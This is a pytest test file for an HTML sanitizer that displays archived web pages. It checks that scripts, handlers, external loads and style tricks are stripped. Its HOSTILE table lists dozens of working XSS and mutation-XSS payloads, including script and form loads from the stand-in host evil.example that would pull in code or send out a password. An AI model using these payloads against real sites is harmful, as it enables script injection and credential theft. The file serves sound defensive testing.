"""What is shown of an archived page can neither run nor fetch nor lead anywhere, whatever the page says."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from parser import Hints
from parser.documents.html import walk_page
from parser.documents.walk import SKIPPED
from parser.marking import Marked, mark
from parser.marking.safe import escaped, harmless, style
from tests.papers.paper import paper
from tests.papers.render import html

ELEMENTS = frozenset({
    "html", "head", "meta", "title", "style", "body", "address", "article", "aside", "blockquote", "center", "dd",
    "div", "dl", "dt", "figure", "footer", "h1", "h2", "h3", "h4", "h5", "h6", "header", "li", "main", "nav", "ol", "p",
    "pre", "section", "ul", "abbr", "b", "big", "bdi", "cite", "code", "del", "dfn", "em", "i", "ins", "kbd", "mark",
    "q", "s", "samp", "small", "span", "strike", "strong", "sub", "sup", "tt", "u", "var", "table", "caption", "tbody",
    "thead", "tfoot", "tr", "td", "th", "br", "hr",
})  # fmt: skip
ATTRIBUTES = frozenset({
    "class", "id", "title", "style", "align", "valign", "width", "border", "cellpadding", "cellspacing", "rowspan",
    "colspan", "start", "value", "lang", "charset", "role",
})  # fmt: skip
RUNS = re.compile(
    r"javascript:|vbscript:|data:|expression|url\(|@import|http-equiv|-moz-binding|behavior", re.IGNORECASE
)

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in a cell": "<table><tr><td>第二十条第（一）项</td><td><script>alert(1)</script>5</td></tr></table>",
    "script that is cut": "<script>alert(1)",
    "script with an attribute": "<script src=//evil.example/x.js></script>",
    "handler": "<div onclick=alert(1) onmouseover='alert(2)' ONLOAD=alert(3)>x</div>",
    "handler on a body": "<body onload=alert(1)><p onpointerenter=alert(1)>x</p></body>",
    "picture that fails": "<img src=x onerror=alert(1)>",
    "picture with a breaking text": "<img alt='\"><script>alert(1)</script>' src=x>",
    "picture sources": "<picture><source srcset=//evil.example/a></picture><img srcset='//evil.example/b 2x' lowsrc=c dynsrc=d>",
    "link": "<a href='javascript:alert(1)'>x</a><a href='jav&#x09;ascript:alert(1)'>y</a>",
    "link that breaks out": "<a href='\"><img src=x onerror=alert(1)>'>x</a>",
    "ping": "<a href=/ ping=//evil.example target=_top download>x</a>",
    "map": "<map name=m><area href=javascript:alert(1)></map><img usemap=#m ismap>",
    "frame": "<iframe src=//evil.example></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "frameset": "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "object": "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)><applet code=x></applet>",
    "parameter": "<object><param name=movie value=//evil.example/x.swf></object>",
    "svg": "<svg onload=alert(1)><script>alert(1)</script><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "svg with a style": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "foreign object": "<svg><foreignObject><div onclick=alert(1)>x</div></foreignObject></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "math link": "<math href=javascript:alert(1)><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "template": "<template><img src=x onerror=alert(1)></template><div shadowrootmode=open>x</div>",
    "text of another grammar": "<textarea></textarea><img src=x onerror=alert(1)></textarea><xmp><img src=x onerror=alert(1)></xmp>",
    "title that closes": "<title></title><img src=x onerror=alert(1)></title>",
    "plain text": "<plaintext><img src=x onerror=alert(1)>",
    "no embed": "<noembed><img src=x onerror=alert(1)></noembed><noframes><img src=x onerror=alert(1)></noframes>",
    "comment": "<!--><img src=x onerror=alert(1)>--><!--[if IE]><script>alert(1)</script><![endif]-->",
    "comment that is not one": "<!-- --!><img src=x onerror=alert(1)> -->",
    "processing instruction": "<?xml-stylesheet href=//evil.example/x.css?><?php echo 1 ?>",
    "character data": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "style": "<style>@import '//evil.example/x.css'; td{background:url(//evil.example/x)}</style>",
    "style that closes": "<style></style><img src=x onerror=alert(1)></style>",
    "style attribute": "<p style='background:url(//evil.example/x);width:expression(alert(1));behavior:url(x)'>x</p>",
    "style that covers": "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9;opacity:0'>x</p>",
    "style in escapes": "<p style='width:\\65xpression(alert(1));b\\61 ckground:\\75rl(x)'>x</p>",
    "style with a comment": "<p style='width:1px/**/;background:/**/url(//evil.example)'>x</p>",
    "style that breaks out": "<p style='\"><img src=x onerror=alert(1)>'>x</p>",
    "style sheet": "<link rel=stylesheet href=//evil.example/x.css><link rel=preload as=script href=x>",
    "refresh": "<meta http-equiv=refresh content='0;url=//evil.example'><meta http-equiv=set-cookie content=a=b>",
    "base": "<base href=//evil.example/ target=_top>",
    "form": "<form action=//evil.example><input name=password autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "inputs": "<input type=image src=x onerror=alert(1)><isindex action=javascript:alert(1)><keygen><select><option>x</select>",
    "media": "<video poster=//evil.example src=x onerror=alert(1)><track src=x></video><audio src=x></audio><bgsound src=x>",
    "background": "<table background=//evil.example/x><tr><td background=javascript:alert(1)>x</td></tr></table>",
    "moving": "<marquee onstart=alert(1)>x</marquee><blink>x</blink><details open ontoggle=alert(1)><summary>x</summary></details>",
    "dialog": "<dialog open>x</dialog><div popover id=p>x</div><button popovertarget=p>y</button>",
    "clobbering": "<form id=location name=body><input name=attributes></form><a id=document name=cookie>x</a><div id=at-1-1-1>x</div>",
    "classes of ours": "<p class='xxgk-mark xxgk-frame' id=at-l1>x</p>",
    "attribute names": "<p x\"onclick=alert(1) y='z' onclick\x0c=alert(1) /onclick=alert(1)>x</p>",
    "unknown elements": "<x-evil onclick=alert(1)>x</x-evil><a:b xmlns:a=x onclick=alert(1)>y</a:b>",
    "names with signs": "<p<script>alert(1)</script>><img/src=x/onerror=alert(1)>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;&lt;svg onload=alert(1)&gt;",
    "nul bytes": "<scr\0ipt>alert(1)</scr\0ipt><img src=x onerr\0or=alert(1)>",
    "another charset": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-<meta charset=utf-7>",
    "table that is torn": "<table><form><tr><td><math><table><tr><style><img src=x onerror=alert(1)></style></tr></table></math>",
    "nested wrongly": "<b><p><table><a href=javascript:alert(1)><tr></b><td><select><script>alert(1)</script></table>",
    "editable": "<div contenteditable autofocus tabindex=1 accesskey=x draggable=true is=x slot=y>x</div>",
    "slots of frames": "<p style='text-indent:-9999px;margin:-99em;font-size:0;color:#fff;display:none;visibility:hidden'>x</p>",
}  # fmt: skip


class Seen(HTMLParser):
    """Every element and attribute of some markup, as a tokenizer of HTML finds them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.open: list[str] = []
        self.text: list[str] = []
        self.others: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]
        if tag not in {"br", "hr", "meta"}:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        if self.open[-1:] != ["style"]:
            self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)

    def unknown_decl(self, data: str) -> None:
        self.others.append(data)


def seen(page: Marked) -> Seen:
    assert page.html is not None
    found = Seen()
    found.feed(page.html)
    found.close()
    return found


def shown(markup: str, *marks: str) -> Marked:
    return mark(whole(markup).encode(), Hints(name="a.html"), marks)


def whole(markup: str) -> str:
    return f"<html><body>{markup}"


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_is_left_that_runs_fetches_or_leads_away(name: str) -> None:
    page = shown(HOSTILE[name] + html(paper()))
    found = seen(page)
    assert ({*found.elements} - ELEMENTS, {key for key, _ in found.attributes} - ATTRIBUTES) == (set(), set())
    assert found.elements.count("style") == found.elements.count("meta") == found.elements.count("title") == 1
    assert [value for key, value in found.attributes if key == "style" and RUNS.search(value)] == []
    assert (found.open, found.others) == ([], [])


@pytest.mark.parametrize("name", HOSTILE)
def test_each_cell_that_is_read_is_found_whatever_stands_above_it(name: str) -> None:
    page = shown(HOSTILE[name] + html(paper()), "at-99-9-9")
    ids = [value for key, value in seen(page).attributes if key == "id"]
    assert (len(ids), page.missing) == (len({*ids}), ("at-99-9-9",))
    assert all(re.fullmatch(r"at-(?:l\d+|\d+(?:-\d+){0,2})", ident) for ident in ids)
    grids = walk_page(whole(HOSTILE[name] + html(paper()))).walker.grids
    assert {f"at-{grid.number}-{cell.row}-{cell.column}" for grid in grids for row in grid.rows for cell in row} <= {
        *ids
    }


def test_no_element_is_left_whose_text_has_another_grammar() -> None:
    raw = {
        "style",
        "script",
        "xmp",
        "iframe",
        "noembed",
        "noframes",
        "noscript",
        "plaintext",
        "textarea",
        "title",
        "template",
        "select",
    }
    outside = ELEMENTS - {"html", "head", "meta", "title", "style", "body"}
    assert (
        outside
        & (raw | SKIPPED | {"svg", "math", "object", "embed", "form", "input", "img", "a", "button", "link", "base"})
        == set()
    )


@pytest.mark.parametrize(
    ("source", "kept"),
    [
        ("text-align:center", "text-align:center"),
        ("TEXT-ALIGN : Center !important ; ; width:50%", "text-align:center;width:50%"),
        ("border:1px solid #000;border-top-style:none", "border:1px solid #000;border-top-style:none"),
        ("border-left:windowtext 1.0pt solid", "border-left:windowtext 1.0pt solid"),
        ("width:999999px;text-indent:-9999px;text-indent:2em", "text-indent:2em"),
        ("background:red;color:#fff;display:none;position:absolute;font-size:0;margin-left:-9em;opacity:0", ""),
        ("border:url(x);width:calc(1px);text-align:center/**/", ""),
        ("text-align:center}body{x", ""),
        ("text-align\\:center;t\\65xt-align:left", ""),
    ],
)
def test_of_a_style_only_what_is_on_the_list_is_kept(source: str, kept: str) -> None:
    assert style(source) == kept


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        ("共\u202e12\u202c件", "共\u27e8U+202E\u27e912\u27e8U+202C\u27e9件"),
        ("\u2066a\u2069\u200f\u061c", "\u27e8U+2066\u27e9a\u27e8U+2069\u27e9\u27e8U+200F\u27e9\u27e8U+061C\u27e9"),
        ("a\0b\x08c\x9bd", "a\ufffdb\ufffdc\ufffdd"),
        ("一\t二\n三\u3000四\u00a0五", "一\t二\n三\u3000四\u00a0五"),
    ],
)
def test_signs_that_turn_or_control_are_seen_and_do_nothing(text: str, seen: str) -> None:
    assert (harmless(text), escaped(text)) == (seen, seen)


def test_links_are_text_with_their_address_and_pictures_are_what_is_said_of_them() -> None:
    page = shown("<p>见<a href='http://xxgk.qinghe.gov.cn/a?b=1&c=2'>附件</a><img alt='公章' src=x.png></p>")
    assert page.html is not None
    assert (
        '见<span class="xxgk-link" title="http://xxgk.qinghe.gov.cn/a?b=1&amp;c=2">附件</span>'
        '<span class="xxgk-picture">图：公章</span>'
    ) in page.html


def test_a_page_that_is_too_long_ends_early_and_says_so() -> None:
    markup = html(paper()).replace("<body>", "<body>" + "<p>清湾市</p>" * 2_000)
    page = mark(markup.encode(), Hints(), ["at-1-1-1", "at-l1"], limit=20_000)
    found = seen(page)
    assert page.html is not None
    assert (found.open, len(page.html) < 30_000, page.missing) == ([], True, ("at-1-1-1",))
    assert "只显示前一部分" in "".join(found.text)


@pytest.mark.parametrize(
    "markup",
    [
        "<div>" * 50_000 + "x",
        "<table><tr><td>" * 5_000 + "x",
        "<b>" * 50_000 + "x",
        "<p>x" * 100_000,
        "<a href='" + "x" * 1_000_000 + "'>y</a>",
    ],
    ids=["nested", "tables", "inline", "many", "a long address"],
)
def test_markup_without_end_is_shown_within_the_limit(markup: str) -> None:
    page = mark(f"<html><body>{markup}".encode(), Hints(), limit=300_000)
    assert page.html is not None
    assert (seen(page).open, len(page.html) < 310_000) == ([], True)
